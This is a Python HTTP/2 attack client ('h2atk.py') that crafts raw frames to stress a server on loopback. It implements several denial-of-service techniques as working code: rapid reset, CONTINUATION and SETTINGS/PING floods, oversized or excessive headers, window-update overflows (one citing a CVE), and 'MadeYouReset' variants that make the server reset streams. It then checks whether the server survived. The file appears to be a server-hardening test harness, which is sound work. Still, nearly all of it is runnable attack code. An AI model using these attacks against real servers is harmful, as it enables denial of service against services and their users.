#!/usr/bin/python3
"""Raw-frame HTTP/2 attack client (loopback only, bounded loops).
Uses hyperframe for framing and hpack for header encoding, so it can send
frames that h2's state machine would refuse.

usage: h2atk.py PORT ATTACK [N] [--noread]
"""
import os, socket, sys, threading, time, collections, struct
from hyperframe.frame import (Frame, SettingsFrame, HeadersFrame, ContinuationFrame,
                              RstStreamFrame, PingFrame, WindowUpdateFrame, DataFrame,
                              GoAwayFrame, PriorityFrame)
from hpack import Encoder

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
ERR = {0: 'NO_ERROR', 1: 'PROTOCOL_ERROR', 2: 'INTERNAL_ERROR', 3: 'FLOW_CONTROL_ERROR',
       5: 'STREAM_CLOSED', 6: 'FRAME_SIZE_ERROR', 7: 'REFUSED_STREAM', 8: 'CANCEL',
       9: 'COMPRESSION_ERROR', 11: 'ENHANCE_YOUR_CALM'}


class Conn:
    def __init__(self, port, read=True, settings=None, ack_server_settings=True):
        self.s = socket.create_connection(('127.0.0.1', port))
        self.tls = None
        self.plain = b''
        if os.environ.get('TLS'):
            # MemoryBIO TLS: raw socket reads/writes stay ours, so bytes that arrived before a
            # TCP RST are still decrypted (an SSLSocket gives up at the first error), and
            # reader/writer threads never touch one SSL object at the same time.
            import ssl
            self.ssl = ssl
            ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(['h2'])
            self.bin, self.bout = ssl.MemoryBIO(), ssl.MemoryBIO()
            self.tls = ctx.wrap_bio(self.bin, self.bout, server_hostname='localhost')
            while True:
                try:
                    self.tls.do_handshake(); break
                except ssl.SSLWantReadError:
                    self.s.sendall(self.bout.read())
                    self.bin.write(self.s.recv(65536))
            self.s.sendall(self.bout.read())
            assert self.tls.selected_alpn_protocol() == 'h2'
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.enc = Encoder()
        self.stats = collections.Counter()
        self.rst = collections.Counter()
        self.goaway = None
        self.closed = False
        self.closed_at = None
        self.t0 = time.time()
        self.server_settings = None
        self.ack = ack_server_settings
        self.lock = threading.Lock()
        sf = SettingsFrame(0)
        for k, v in (settings or {}).items():
            sf.settings[k] = v
        self.send(PREFACE + sf.serialize())
        self.reader = None
        if read:
            self.reader = threading.Thread(target=self._read, daemon=True)
            self.reader.start()

    def send(self, data):
        with self.lock:
            try:
                if self.tls:
                    self.tls.write(data); data = self.bout.read()
                self.s.sendall(data)
                return True
            except OSError as e:
                self.stats['send_error:' + type(e).__name__] += 1
                return False

    def _recvn(self, n):
        if self.tls:
            return self._tls_recvn(n)
        buf = b''
        while len(buf) < n:
            chunk = self.s.recv(n - len(buf))
            if not chunk:
                raise EOFError
            buf += chunk
        return buf

    def _tls_recvn(self, n):
        while len(self.plain) < n:
            try:
                raw = self.s.recv(65536)
            except OSError:
                raw = b''
            with self.lock:
                if raw:
                    self.bin.write(raw)
                else:
                    self.bin.write_eof()
                got = False
                while True:
                    try:
                        d = self.tls.read(65536)
                    except (self.ssl.SSLWantReadError, self.ssl.SSLZeroReturnError, self.ssl.SSLEOFError):
                        break
                    except self.ssl.SSLError:
                        break
                    if not d: break
                    self.plain += d; got = True
            if not raw and not got and len(self.plain) < n:
                raise EOFError
        out, self.plain = self.plain[:n], self.plain[n:]
        return out

    def _read(self):
        try:
            while True:
                hdr = self._recvn(9)
                f, length = Frame.parse_frame_header(memoryview(hdr))
                body = self._recvn(length) if length else b''
                f.parse_body(memoryview(body))
                name = type(f).__name__
                self.stats[name] += 1
                if isinstance(f, HeadersFrame):
                    self.hdr_ids = getattr(self, 'hdr_ids', []) + [f.stream_id]
                if isinstance(f, RstStreamFrame):
                    self.rst[ERR.get(f.error_code, f.error_code)] += 1
                elif isinstance(f, GoAwayFrame):
                    self.goaways = getattr(self, 'goaways', []) + [(ERR.get(f.error_code, f.error_code), f.last_stream_id)]
                    self.goaway = dict(code=ERR.get(f.error_code, f.error_code),
                                       last_stream_id=f.last_stream_id,
                                       debug=bytes(f.additional_data)[:80],
                                       at=round(time.time() - self.t0, 3))
                elif isinstance(f, SettingsFrame) and 'ACK' not in f.flags:
                    self.server_settings = dict(f.settings)
                    if self.ack:
                        self.send(SettingsFrame(0, flags=['ACK']).serialize())
        except (EOFError, OSError):
            pass
        self.closed = True
        self.closed_at = round(time.time() - self.t0, 3)

    def read_blocking(self, timeout):
        self.s.settimeout(timeout)
        self._read()

    def headers(self, sid, path='/hang', end_stream=False, extra=(), end_headers=True, method='GET'):
        hb = self.enc.encode([(':method', method), (':scheme', 'http'), (':path', path),
                              (':authority', 'x')] + list(extra))
        f = HeadersFrame(sid, hb)
        f.flags.add('END_HEADERS') if end_headers else None
        if end_stream:
            f.flags.add('END_STREAM')
        return f.serialize()

    def wait(self, timeout):
        end = time.time() + timeout
        while time.time() < end and not self.closed:
            time.sleep(0.02)

    def report(self, label):
        return dict(goaways=getattr(self, 'goaways', []), hdr_ids=getattr(self, 'hdr_ids', [])[:20], attack=label, closed=self.closed, closed_at=self.closed_at, goaway=self.goaway,
                    rst=dict(self.rst), frames=dict(self.stats), server_settings=self.server_settings)


def _int(v, prefix, first=0):
    m = (1 << prefix) - 1
    if v < m:
        return bytes([first | v])
    out = [first | m]; v -= m
    while v >= 128:
        out.append((v & 127) | 128); v >>= 7
    out.append(v)
    return bytes(out)


def literal_block(headers):
    """HPACK literal-without-indexing, no Huffman: stateless, reusable for every stream."""
    out = b''
    for n, v in headers:
        n = n.encode(); v = v.encode()
        out += b'\x00' + _int(len(n), 7) + n + _int(len(v), 7) + v
    return out


def alive(port):
    """Fresh, well-behaved request after the attack: proves the process is unharmed."""
    c = Conn(port)
    c.send(c.headers(1, '/ok', end_stream=True))
    t = time.time()
    while time.time() - t < 3 and c.stats['DataFrame'] == 0 and not c.closed:
        time.sleep(0.01)
    ok = c.stats['DataFrame'] > 0
    c.s.close()
    return ok


PACE = float(dict(a.split('=') for a in sys.argv if a.startswith('pace=')).get('pace', 0))


def main():
    port = int(sys.argv[1]); atk = sys.argv[2]
    n = int(sys.argv[3]) if len(sys.argv) > 3 and sys.argv[3].isdigit() else 1000
    read = '--noread' not in sys.argv
    c = Conn(port, read=read, ack_server_settings='--noack' not in sys.argv)
    if '--waitsettings' in sys.argv:
        while c.server_settings is None and not c.closed:
            time.sleep(0.005)
        time.sleep(0.05)

    if atk == 'concurrent':          # open N streams, never finish them
        buf = b''.join(c.headers(2 * i + 1, '/hang') for i in range(n))
        c.send(buf)
    elif atk == 'concurrent_slow':   # one per 1ms so each is processed separately
        for i in range(n):
            if c.closed: break
            c.send(c.headers(2 * i + 1, '/hang'))
            time.sleep(0.001)
    elif atk == 'sequential':        # N complete requests, one after another (total streams cap)
        for i in range(n):
            if c.closed or c.goaway: break
            c.send(c.headers(2 * i + 1, '/ok', end_stream=True))
            t = time.time()
            while c.stats['DataFrame'] < i + 1 and not c.closed and not c.goaway and time.time() - t < 2:
                time.sleep(0.0005)
    elif atk == 'many_fields_repeat':  # 200 streams each with 200 fields (node RSTs each; app never sees them)
        hb = literal_block([(':method', 'GET'), (':scheme', 'http'), (':path', '/ok'), (':authority', 'x')] + [('x-h%d' % i, 'v') for i in range(200)])
        c.send(b''.join(HeadersFrame(2 * i + 1, hb, flags=['END_HEADERS', 'END_STREAM']).serialize() for i in range(n)))
    elif atk == 'many_fields':       # N regular header fields in one request
        extra = [('x-h%d' % i, 'v') for i in range(n)]
        c.send(c.headers(1, '/ok', end_stream=True, extra=extra))
    elif atk == 'big_header':        # one header of N bytes (sent via CONTINUATIONs if needed)
        hb = c.enc.encode([(':method', 'GET'), (':scheme', 'http'), (':path', '/ok'),
                           (':authority', 'x'), ('x-big', 'a' * n)])
        chunks = [hb[i:i + 16384] for i in range(0, len(hb), 16384)]
        fr = HeadersFrame(1, chunks[0]); fr.flags.add('END_STREAM')
        if len(chunks) == 1: fr.flags.add('END_HEADERS')
        out = fr.serialize()
        for j, ch in enumerate(chunks[1:]):
            cf = ContinuationFrame(1, ch)
            if j == len(chunks) - 2: cf.flags.add('END_HEADERS')
            out += cf.serialize()
        c.send(out)
    elif atk == 'big_header_repeat':  # many streams each with an over-limit header list
        for i in range(n):
            if c.closed: break
            if i == 0:
                hb = literal_block([(':method', 'GET'), (':scheme', 'http'), (':path', '/ok'),
                                    (':authority', 'x')] + [('x-big%d' % k, 'a' * 8000) for k in range(9)])
            chunks = [hb[k:k + 16384] for k in range(0, len(hb), 16384)]
            fr = HeadersFrame(2 * i + 1, chunks[0]); fr.flags.add('END_STREAM')
            out = fr.serialize()
            for j, ch in enumerate(chunks[1:]):
                cf = ContinuationFrame(2 * i + 1, ch)
                if j == len(chunks) - 2: cf.flags.add('END_HEADERS')
                out += cf.serialize()
            c.send(out)
    elif atk == 'rapid_reset':       # HEADERS + RST_STREAM(CANCEL), N times
        batch = b''
        for i in range(n):
            sid = 2 * i + 1
            batch += c.headers(sid, '/hang') + RstStreamFrame(sid, error_code=8).serialize()
            if len(batch) > 64 * 1024:
                if not c.send(batch): break
                batch = b''
        c.send(batch)
    elif atk == 'rapid_reset_slow':  # same, but paced at ~N/s for 3s (under the token bucket?)
        rate = n
        for i in range(rate * 3):
            if c.closed: break
            sid = 2 * i + 1
            c.send(c.headers(sid, '/hang') + RstStreamFrame(sid, error_code=8).serialize())
            time.sleep(1.0 / rate)
    elif atk == 'continuation':      # HEADERS without END_HEADERS then N CONTINUATIONs
        hb = c.enc.encode([(':method', 'GET'), (':scheme', 'http'), (':path', '/hang'), (':authority', 'x')])
        c.send(HeadersFrame(1, hb).serialize())
        for i in range(n):
            if c.closed: break
            if not c.send(ContinuationFrame(1, b'').serialize() if '--empty' in sys.argv else
                          ContinuationFrame(1, c.enc.encode([('x-c%d' % i, 'v' * 100)])).serialize()):
                break
    elif atk == 'continuation_exact':  # HEADERS + exactly N CONTINUATIONs, last one END_HEADERS
        hb = literal_block([(':method', 'GET'), (':scheme', 'http'), (':path', '/ok'), (':authority', 'x')])
        out = HeadersFrame(1, hb, flags=['END_STREAM']).serialize()
        for i in range(n):
            cf = ContinuationFrame(1, literal_block([('x-c%d' % i, 'v')]))
            if i == n - 1: cf.flags.add('END_HEADERS')
            out += cf.serialize()
        c.send(out)
    elif atk == 'wu_conn_ovf':       # connection window overflow (CVE-2026-21714 leaked the session)
        c.send(WindowUpdateFrame(0, window_increment=2**31 - 1).serialize() * 2)
    elif atk == 'settings':          # N SETTINGS frames (each needs an ACK)
        f = SettingsFrame(0); f.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 65535
        data = f.serialize() * 1000
        for i in range(n // 1000):
            if c.closed or not c.send(data): break
    elif atk == 'settings_entries':  # one SETTINGS frame with N entries
        payload = b''.join(struct.pack('>HL', 4, 65535) for _ in range(n))
        c.send(struct.pack('>L', len(payload))[1:] + b'\x04\x00\x00\x00\x00\x00' + payload)
    elif atk == 'ping':              # N PINGs (each needs an ACK)
        data = PingFrame(0, opaque_data=b'12345678').serialize() * 1000
        for i in range(n // 1000):
            if c.closed or not c.send(data): break
    elif atk == 'ping_paced':        # N PINGs/s for 3 s, reading ACKs (cheap but endless)
        for i in range(n * 3):
            if c.closed: break
            c.send(PingFrame(0, opaque_data=b'12345678').serialize())
            time.sleep(1.0 / n)
    elif atk.startswith('myr_'):     # MadeYouReset: make the *server* reset streams
        kind = atk[4:]
        batch = b''
        for i in range(n):
            sid = 2 * i + 1
            if kind == 'wu0':        # WINDOW_UPDATE increment 0 on an open stream -> stream PROTOCOL_ERROR
                fr = c.headers(sid, '/hang') + WindowUpdateFrame(sid, window_increment=0).serialize()
            elif kind == 'wuovf':    # stream window overflow -> stream FLOW_CONTROL_ERROR
                fr = c.headers(sid, '/hang') + WindowUpdateFrame(sid, window_increment=2**31 - 1).serialize()
            elif kind == 'data_closed':  # DATA after END_STREAM -> STREAM_CLOSED
                fr = c.headers(sid, '/hang', end_stream=True) + DataFrame(sid, b'x').serialize()
            elif kind == 'cl':       # content-length mismatch -> PROTOCOL_ERROR
                d = DataFrame(sid, b'xx'); d.flags.add('END_STREAM')
                fr = c.headers(sid, '/hang', extra=[('content-length', '1')], method='POST') + d.serialize()
            elif kind == 'prio_self':  # PRIORITY depending on itself -> PROTOCOL_ERROR
                fr = c.headers(sid, '/hang') + PriorityFrame(sid, depends_on=sid).serialize()
            elif kind == 'trailer_noes':  # trailers without END_STREAM -> stream PROTOCOL_ERROR after stream reached the app
                fr = c.headers(sid, '/hang', method='POST') + HeadersFrame(sid, literal_block([('x-t', '1')]), flags=['END_HEADERS']).serialize()
            elif kind == 'trailer_pseudo':  # pseudo-header in trailers
                fr = c.headers(sid, '/hang', method='POST') + HeadersFrame(sid, literal_block([(':path', '/x')]), flags=['END_HEADERS', 'END_STREAM']).serialize()
            elif kind == 'data_overflow':  # DATA beyond the stream window (65535)
                fr = c.headers(sid, '/hang', method='POST') + b''.join(DataFrame(sid, b'x' * 16384).serialize() for _ in range(4))
            elif kind == 'bad_header':  # connection-specific header -> malformed request
                fr = c.headers(sid, '/hang', extra=[('connection', 'close')])
            batch += fr
            if PACE:
                if c.closed or not c.send(batch): break
                batch = b''; time.sleep(1.0 / PACE); continue
            if len(batch) > 64 * 1024:
                if not c.send(batch): break
                batch = b''
        c.send(batch)
    else:
        raise SystemExit('unknown attack ' + atk)

    if read:
        c.wait(float(dict(a.split('=') for a in sys.argv if a.startswith('wait=')).get('wait', 3)))
    else:
        c.read_blocking(5)
    r = c.report(atk + ' N=%d' % n)
    c.s.close()
    r['alive_after'] = alive(port)
    print(r)


if __name__ == '__main__':
    main()
